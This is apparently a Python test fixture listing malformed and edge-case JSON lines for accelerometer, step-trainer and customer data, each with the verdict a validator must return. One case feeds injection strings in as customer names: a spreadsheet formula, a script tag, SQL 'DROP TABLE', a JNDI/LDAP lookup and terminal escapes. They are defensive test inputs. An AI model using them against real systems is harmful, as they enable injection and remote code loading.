"""Cases 10 to 16 and 26 to 46 of landing.md, line by line, with the verdict each line must get."""

from collections.abc import Sequence
from dataclasses import dataclass

T0_MS = 1_655_564_444_000
SERIAL = "50f7b4f3-7af5-4b07-a421-%012d"


def phone(case: int, number: int) -> bytes:
    """A good phone reading that no other case and number give."""
    at_ms = T0_MS + case * 1_000_000 + number
    return b'{"user":"person1@example.org","timestamp":%d,"x":1.0,"y":-1.0,"z":0.5}\n' % at_ms


def step(case: int, number: int) -> bytes:
    """A good step reading that no other case and number give."""
    at_ms = T0_MS + case * 1_000_000 + number
    serial = (SERIAL % 1).encode()
    return b'{"sensorReadingTime":%d,"serialNumber":"%s","distanceFromObject":218}\n' % (at_ms, serial)


def customer(number: int, **changed: str) -> bytes:
    """A good customer record without its newline; `changed` holds JSON by key, e.g. `phone='null'`."""
    fields = {
        "customerName": '"Person"', "email": f'"person{number}@example.org"', "phone": '"8015551212"',
        "birthDay": '"1960-01-01"', "serialNumber": f'"{SERIAL % number}"',
        "registrationDate": str(T0_MS - 9_000), "lastUpdateDate": str(T0_MS - 9_000),
        "shareWithResearchAsOfDate": str(T0_MS - 9_000),
    }  # fmt: skip
    return ("{" + ",".join(f'"{key}":{text}' for key, text in (fields | changed).items()) + "}").encode()


GOOD_CUSTOMERS = [customer(number) + b"\n" for number in (1, 2, 3)]
GOOD_ACCELEROMETER = [phone(0, number * 20) for number in range(20)]
GOOD_STEPS = [step(0, number * 20) for number in range(20)]


@dataclass(frozen=True)
class LineCase:
    """Lines of one case, without newlines; a verdict is accepted, blank, duplicate or a reason."""

    number: int
    lines: Sequence[tuple[bytes, str]]
    source: str = "accelerometer"


def _p(number: int, index: int, old: str = "", new: str | bytes = "") -> bytes:
    """A phone reading with one part replaced, which must be there."""
    line = phone(number, index)[:-1]
    assert old.encode() in line
    return line.replace(old.encode(), new if isinstance(new, bytes) else new.encode(), 1) if old else line


def _at(number: int, index: int, text: str) -> bytes:
    """A phone reading at the time that this JSON tells."""
    return _p(number, index, f'"timestamp":{T0_MS + number * 1_000_000 + index}', f'"timestamp":{text}')


def _user(number: int, index: int, text: str | bytes) -> bytes:
    return _p(number, index, '"person1@example.org"', text)


_MS = T0_MS + 35_000_000
_USER = '"user":"person1@example.org",'

LINE_CASES: Sequence[LineCase] = (
    LineCase(10, [(_user(10, 0, b'"\xff\xfe@example.org"'), "BAD_UTF8"), (_p(10, 1) + bytes(9), "NUL"),
                  (bytes(9), "NUL")]),
    LineCase(12, [(_p(12, 0) + b"\r", "accepted"), (_p(12, 1) + b"\r" + _p(12, 2), "LONE_CR"),
                  (b"\r", "blank")]),
    LineCase(13, [(b"", "blank"), (b" \t ", "blank")]),
    LineCase(14, [(_p(14, 0, "{", '{"a":"' + "a" * 2**20 + '",'), "LINE_TOO_LONG"),
                  (_user(14, 1, '"' + "a" * 4090 + '@example.org"'), "FIELD_TOO_LONG")]),
    LineCase(16, [(b"{", "BAD_JSON"), (b' "user": "person1@example.org",', "BAD_JSON"), (b"}", "BAD_JSON"),
                  (b"[" + _p(16, 0) + b"]", "NOT_AN_OBJECT"), (b"[", "BAD_JSON"),
                  (_p(16, 1) + b",", "BAD_JSON"), (b"]", "BAD_JSON")]),
    LineCase(26, [(_p(26, 0)[:40], "BAD_JSON"), (_p(26, 1) + b" ok", "BAD_JSON"),
                  (_p(26, 2) + _p(26, 3), "BAD_JSON")]),
    LineCase(27, [(_p(27, 0, "{", '{"x":1,'), "DUPLICATE_KEY"),
                  (_p(27, 1, "{", '{"X":1,'), "DUPLICATE_KEY")]),
    LineCase(28, [(_p(28, 0, "timestamp", "timeStamp"), "accepted")]),
    LineCase(29, [(_p(29, 0, "{", '{"firmware":"1.2",'), "accepted"),
                  (_p(29, 1, "{", '{"more":{"a":[1]},'), "accepted")]),
    LineCase(30, [(_p(30, 0, ',"z":0.5', ""), "MISSING"), (_p(30, 1, '"z":0.5', '"z":null'), "MISSING"),
                  (_p(30, 2, _USER, ""), "MISSING")]),
    LineCase(31, [(b"{'a':1}", "BAD_JSON"), (_p(31, 0) + b"// twice", "BAD_JSON"), (b"null", "NOT_AN_OBJECT"),
                  (b"5", "NOT_AN_OBJECT"), (b'"x"', "NOT_AN_OBJECT"), (b"[]", "NOT_AN_OBJECT")]),
    LineCase(32, [(_p(32, 0, "{", '{"a":' + "[" * 16 + "]" * 16 + ","), "TOO_DEEP"),
                  (_p(32, 1, "{", '{"a":' + "[" * 100_000 + ","), "TOO_DEEP"),
                  (_user(32, 2, r'"\ud800@example.org"'), "LONE_SURROGATE")]),
    LineCase(33, [(_p(33, 0, "0.5", "NaN"), "BAD_NUMBER"), (_p(33, 1, "0.5", "-Infinity"), "BAD_NUMBER"),
                  (_p(33, 2, "0.5", "1e999"), "BAD_NUMBER"), (_at(33, 3, "9" * 30), "BAD_NUMBER"),
                  (_p(33, 4, "0.5", "true"), "BAD_TYPE")]),
    LineCase(34, [(_at(34, 0, '"1655600000000"'), "accepted"), (_at(34, 1, "1655600000001.0"), "accepted"),
                  (_at(34, 2, "1655600000002.5"), "FRACTION"), (_p(34, 3, "0.5", '"0.5"'), "accepted")]),
    LineCase(35, [(_at(35, 0, str(_MS // 1000)), "UNIT"), (_at(35, 1, f"{_MS}000"), "UNIT"),
                  (_at(35, 2, f"{_MS}000000"), "UNIT")]),
    LineCase(36, [(_at(36, 0, "0"), "BAD_INSTANT"), (_at(36, 1, "-5"), "BAD_INSTANT"),
                  (_at(36, 2, "1262304000000"), "BAD_INSTANT"), (_at(36, 3, "4070908800000"), "FUTURE")]),
    LineCase(37, [(_at(37, 0, '"2022-06-19T02:00:00.001Z"'), "accepted"),
                  (_at(37, 1, '"2022-06-19T02:00:00.002+02:00"'), "accepted"),
                  (_at(37, 2, '"2022-06-19T02:00:00.003"'), "BAD_INSTANT")]),
    LineCase(38, [(_p(38, 0, "0.5", "0"), "accepted"), (_p(38, 1, "0.5", "-1.0"), "accepted")]),
    LineCase(39, [(_p(39, 0, "0.5", "160.01"), "OUT_OF_RANGE"), (_p(39, 1, "0.5", "-160"), "accepted"),
                  (_p(39, 2, "0.5", "-1e5"), "OUT_OF_RANGE")]),
    LineCase(39, [(step(39, 0)[:-1].replace(b"218", b"-1"), "OUT_OF_RANGE"),
                  (step(39, 1)[:-1].replace(b"218", b"10001"), "OUT_OF_RANGE"),
                  (step(39, 2)[:-1].replace(b"218", b"10000"), "accepted")], "step_trainer"),
    LineCase(40, [(_p(40, 0, "0.5", "0.0"), "accepted"), (_p(40, 0, "0.5", "-0.0"), "duplicate"),
                  (_p(40, 1, "0.5", "1"), "accepted"), (_p(40, 1, "0.5", "1.0"), "duplicate"),
                  (_p(40, 1, "0.5", "1e0"), "duplicate")]),
    LineCase(41, [(_user(41, 0, '" PERSON1@Example.org "'), "accepted"),
                  (_user(41, 1, '"ze\u0301@example.org"'), "accepted"),
                  (_user(41, 2, '"z\u00e9@example.org"'), "accepted")]),
    LineCase(42, [(_user(42, 0, r'"per\u200bson@example.org"'), "BAD_TEXT"), (_user(42, 1, '""'), "BAD_TEXT"),
                  (_user(42, 2, r'"a\u0007@example.org"'), "BAD_TEXT"), (_user(42, 3, '"null"'), "BAD_TEXT"),
                  (_user(42, 4, '"example.org"'), "BAD_EMAIL"), (_user(42, 5, "5"), "BAD_TYPE")]),
    LineCase(43, [(step(43, 0)[:-1].replace(b"f7b4f3", b"F7B4F3"), "accepted"),
                  (step(43, 1)[:-1].replace(b"50f7b4f3-", b"STEDI-"), "BAD_SERIAL")], "step_trainer"),
    LineCase(44, [(customer(440 + n, birthDay=f'"{day}"'), "accepted")
                  for n, day in enumerate(("967-01-01", "1960-02-30", "2999-01-01"))], "customer"),
    LineCase(45, [(_user(45, 0, '"nobody@example.org"'), "accepted")]),
    LineCase(45, [(step(45, 1)[:-1].replace(b"50f7b4f3", b"00000000"), "accepted")], "step_trainer"),
    LineCase(46, [(customer(460 + n, customerName=name), "accepted") for n, name in enumerate((
        r'"=HYPERLINK(\"http://example.org\",\"x\")"', '"<script>alert(1)"', '"\'; DROP TABLE a; --"',
        '"${jndi:ldap://example.org/a}"', r'"\u001b[2J\u0007"'))], "customer"),
)  # fmt: skip
